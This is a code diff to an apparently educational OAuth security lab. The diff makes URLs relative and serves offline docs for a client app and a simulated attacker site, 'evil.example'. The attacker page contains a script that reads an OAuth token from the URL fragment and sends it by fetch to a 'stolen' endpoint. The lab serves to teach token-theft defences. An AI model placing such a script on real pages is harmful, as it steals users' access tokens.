@@ -47,6 +47,7 @@ from starlette.concurrency import run_in_threadpool
 from labkit.patterns import oauth as secure_oauth
 from labkit.patterns import passwords as secure_passwords
 from labkit.sandbox.apps.base import LabState, new_lab_app
+from labkit.sandbox.apps.pages import add_docs
 from labkit.sandbox.fixes import FixSlot, install_fault_handler, plug_fixes
 from labkit.sandbox.store import LabStore
 from labkit.vulnerable import oauth as weak_oauth
@@ -298,7 +299,7 @@ def _oauth_error(error: str, description: str, status: int = 400) -> JSONRespons
 def _login_form(next_url: str) -> HTMLResponse:
     return _page(
         "Sign in to the authorization server",
-        "<form method='post' action='/session'>"
+        "<form method='post' action='session'>"  # relative: works under a proxy prefix
         f"<input type='hidden' name='next' value='{html.escape(next_url)}'>"
         "<label>Email <input name='email' type='email'></label> "
         "<label>Password <input name='password' type='password'></label> "
@@ -703,7 +704,8 @@ class WebClient:
 
 
 def _client_app(client: WebClient) -> FastAPI:
-    app = FastAPI(title="04-oauth client web app", version="labkit")
+    app = FastAPI(title="04-oauth client web app", version="labkit", docs_url=None, redoc_url=None)
+    add_docs(app)  # offline, relative (not FastAPI's CDN page)
     install_fault_handler(app)  # the learner's check_state / check_nonce run here
 
     def session_of(request: Request) -> tuple[str, dict[str, Any]]:
@@ -719,7 +721,7 @@ def _client_app(client: WebClient) -> FastAPI:
 
     @app.get("/", response_class=HTMLResponse)
     def home() -> HTMLResponse:
-        return _page("The client web app", "<p><a href='/login'>Log in with the server</a></p>")
+        return _page("The client web app", "<p><a href='login'>Log in with the server</a></p>")
 
     @app.get("/login", response_model=None)
     def login(request: Request) -> Response:
@@ -753,12 +755,18 @@ def _client_app(client: WebClient) -> FastAPI:
 _ATTACKER_PAGE = (
     "<!doctype html><title>evil.example</title><p>Nothing to see here.</p>"
     # a token in the fragment never reaches a server, but it reaches the page's script
-    "<script>if (location.hash) fetch('/stolen?' + location.hash.slice(1));</script>"
+    "<script>if (location.hash) fetch('stolen?' + location.hash.slice(1));</script>"
 )
 
 
 def _attacker_app() -> FastAPI:
-    app = FastAPI(title="04-oauth attacker's site (evil.example)", version="labkit")
+    app = FastAPI(
+        title="04-oauth attacker's site (evil.example)",
+        version="labkit",
+        docs_url=None,
+        redoc_url=None,
+    )
+    add_docs(app)  # before the catch-all page
     captured: list[dict[str, Any]] = []
 
     @app.get("/api/_lab/captured", include_in_schema=False)
